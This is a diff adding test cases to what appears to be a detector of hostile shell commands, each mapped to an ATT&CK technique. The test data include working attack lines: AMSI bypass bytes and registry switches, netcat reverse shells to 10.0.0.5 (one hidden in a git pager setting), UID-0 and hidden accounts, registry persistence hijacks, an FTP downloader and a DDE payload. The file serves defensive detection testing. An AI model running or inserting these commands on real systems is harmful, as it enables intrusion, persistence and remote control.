@@ -214,6 +214,19 @@ describe('technique shapes added for issue 11 (one per shape, each names its ATT
     ['dsrm', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Lsa" /v DsrmAdminLogonBehavior /t REG_DWORD /d 2', 'persist.dsrm', 'T1098'],
     ['impacket', 'impacket-wmiexec corp/admin@10.0.0.7', 'tool.offensive_cli', 'T1588.002'],
     ['mimikatz skeleton key', 'mimikatz "misc::skeleton" exit', 'cred.mimikatz', 'T1003.001'],
+    ['amsi patch bytes', '$p = [Byte[]] (0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3); [Marshal]::Copy($p, 0, $a, 6)', 'evasion.amsi', 'T1562.001'],
+    ['wsh amsi switch', 'reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f', 'evasion.amsi', 'T1562.001'],
+    ['msbuild xml project', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe build.xml', 'lolbin.msbuild_inline', 'T1127.001'],
+    ['uid 0 combined flags', 'useradd -ou 0 -g 0 toor', 'privesc.root_account', 'T1136.001'],
+    ['netcat escaped shell', 'RS="ncat 10.0.0.5 443 -e \\"/bin/bash -c id;/bin/bash\\""', 'revshell.netcat_exec', 'T1059.004'],
+    ['git pager hook', "git config --global core.pager 'nc 10.0.0.5 443 -e /bin/sh; less'", 'persist.hijack_linux', 'T1546.004'],
+    ['screensaver', 'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d C:\\x\\s.scr /f', 'persist.registry_hijack', 'T1546.015'],
+    ['appcert dlls', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls" /v x /d C:\\x\\a.dll', 'persist.appinit_dlls', 'T1546.010'],
+    ['hidden account', 'net user svc$ Winter2024! /add', 'persist.hidden_account', 'T1564.002'],
+    ['vbs downloader by echo', 'echo Set o = CreateObject("MSXML2.XMLHTTP") > dl.vbs', 'ingress.staged_downloader', 'T1105'],
+    ['ftp script', 'echo get p.exe >> f.txt && ftp -v -n -s:f.txt 203.0.113.9', 'ingress.staged_downloader', 'T1105'],
+    ['dde', "=cmd|' /c powershell -nop -c calc'!A0", 'exec.dde', 'T1559.002'],
+    ['sharpersist', 'SharPersist.exe -t schtask -c "C:\\x\\a.exe" -n upd -m add', 'tool.offensive_powershell', 'T1059.001'],
   ])('%s', (_n, text, id, tech) => {
     const f = technique(text, id);
     expect(f).toBeDefined();
@@ -227,6 +240,7 @@ describe('technique shapes added for issue 11 (one per shape, each names its ATT
     ['local admin', 'net user svc P4ss /add && net localgroup administrators svc /add', 'persist.local_admin'],
     ['powershell profile', 'Add-Content -Path $PROFILE -Value "Import-Module posh-git"', 'persist.ps_profile'],
     ['at job', 'echo "/usr/local/bin/rotate.sh" | at midnight', 'persist.at'],
+    ['profile.d', 'echo "export PATH=$PATH:/opt/tool/bin" > /etc/profile.d/tool.sh', 'persist.boot_script'],
     ['boot script', 'echo "/usr/local/bin/mount-data.sh" >> /etc/rc.local', 'persist.boot_script'],
   ])('dual-use admin actions are low alone: %s', (_n, text, id) => {
     expect(technique(text, id)?.severity).toBe('low');
@@ -253,6 +267,8 @@ describe('benign counter-cases for the added shapes stay at low or below', () =>
     ['reading own history config', 'Set-PSReadLineOption -HistorySaveStyle SaveIncrementally'],
     ['hta in docs', 'Write-Host "Do not open .hta files from e-mail"'],
     ['dotfile sudo alias', "alias sudo='sudo '"],
+    ['perl exec of sh -c', "exec '/bin/sh', '-c', \"exec $postgres $opts\" or die"],
+    ['msbuild solution', 'msbuild.exe MyApp.sln /p:Configuration=Release'],
     ['reflection read', "$v = $o.GetType().GetField('_items','NonPublic,Instance').GetValue($o)"],
     ['file server installer', 'Start-Process \\\\files.corp.example\\deploy\\agent.msi -ArgumentList /qn'],
   ])('%s', (_n, text) => {
